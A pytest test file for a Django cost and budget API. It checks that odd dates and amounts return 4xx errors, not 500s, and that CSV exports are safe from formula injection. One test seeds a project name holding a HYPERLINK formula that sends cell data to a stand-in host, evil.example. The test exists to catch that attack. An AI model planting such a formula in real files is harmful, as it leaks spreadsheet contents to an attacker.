"""Review: odd inputs on the money routes answer 4xx, never 500."""

from datetime import UTC, datetime

import pytest
import time_machine

from tests.conftest import make_project

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 6, 15, 12, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.mark.parametrize("granularity", ["daily", "weekly", "monthly"])
def test_it_answers_history_at_the_end_of_the_calendar_without_500(owner_client, project, granularity):
    response = owner_client.get(
        f"/api/v1/costs/history?start_date=9999-12-01&end_date=9999-12-31&granularity={granularity}"
    )
    assert response.status_code in (200, 400), response.status_code


def test_it_answers_history_at_the_start_of_the_calendar_without_500(owner_client, project):
    response = owner_client.get("/api/v1/costs/history?start_date=0001-01-01&end_date=0001-01-20&granularity=weekly")
    assert response.status_code in (200, 400), response.status_code


def test_it_answers_export_at_the_end_of_the_calendar_without_500(owner_client, project):
    response = owner_client.get("/api/v1/costs/export?start_date=9999-12-01&end_date=9999-12-31")
    assert response.status_code in (200, 400), response.status_code
    if response.status_code == 200:
        b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("start", "end"),
    [
        ("0001-01-01T00:00:00+05:00", "2026-12-31T00:00:00Z"),
        ("2026-01-01T00:00:00Z", "9999-12-31T23:59:59-05:00"),
    ],
)
def test_it_refuses_pool_dates_outside_the_calendar_without_500(owner_client, org, start, end):
    response = owner_client.post(
        "/api/v1/budgets",
        {"name": "Edge", "total_amount": 10, "start_date": start, "end_date": end, "period": "monthly"},
        format="json",
    )
    assert response.status_code in (201, 400), (response.status_code, response.content[:300])
    if response.status_code == 201:
        pool_id = response.json()["id"]
        for path in ("", "/summary", "/allocations"):
            r = owner_client.get(f"/api/v1/budgets/{pool_id}{path}")
            assert r.status_code == 200, (path, r.status_code)
        assert owner_client.get("/api/v1/budgets").status_code == 200


@pytest.mark.parametrize("amount", ["1e309", "NaN", "Infinity", "-0", "1e-30", "99999999999999.999"])
def test_it_refuses_odd_pool_amounts_without_500(owner_client, org, amount):
    response = owner_client.post(
        "/api/v1/budgets",
        f'{{"name": "Odd", "total_amount": {_json_number_or_string(amount)}, '
        '"start_date": "2026-01-01T00:00:00Z", "end_date": "2026-12-31T00:00:00Z"}',
        content_type="application/json",
    )
    assert response.status_code in (201, 400), (amount, response.status_code, response.content[:300])


@pytest.mark.parametrize("amount", ["1e309", "NaN", "Infinity"])
def test_it_refuses_odd_whatif_hours_without_500(owner_client, project, amount):
    response = owner_client.post(
        "/api/v1/costs/what-if",
        f'{{"project": "{project.pk}", "instance_type": "t3.medium", "hours_per_day": {amount}, "days": 1}}',
        content_type="application/json",
    )
    assert response.status_code == 400, (amount, response.status_code, response.content[:300])


def test_it_keeps_csv_export_safe_from_spreadsheet_formulas(owner_client, org, owner):
    """A member names a project '=HYPERLINK(...)': the grants officer's export must not carry a live formula."""
    from decimal import Decimal

    from tests.support import record_cost
    from workspaces.models import Workspace

    evil = make_project(org, '=HYPERLINK("http://evil.example/?"&A1,"open")', owner)
    ws = Workspace.objects.create(organization=org, project=evil, owner=owner, name="w1", state="stopped")
    start = datetime(2026, 6, 14, tzinfo=UTC)
    record_cost(
        organization=org,
        workspace=ws,
        project=evil,
        member=owner,
        kind="compute",
        item="t3.medium",
        start=start,
        end=start,
        day=start.date(),
        quantity=Decimal(1),
        unit="seconds",
        rate=Decimal(1),
        amount=Decimal(1),
    )
    response = owner_client.get("/api/v1/costs/export?start_date=2026-06-01&end_date=2026-06-30")
    text = b"".join(response.streaming_content).decode()
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells if cell), text


def _json_number_or_string(amount: str) -> str:
    return amount if amount[0].isdigit() or amount[0] == "-" else chr(34) + amount + chr(34)
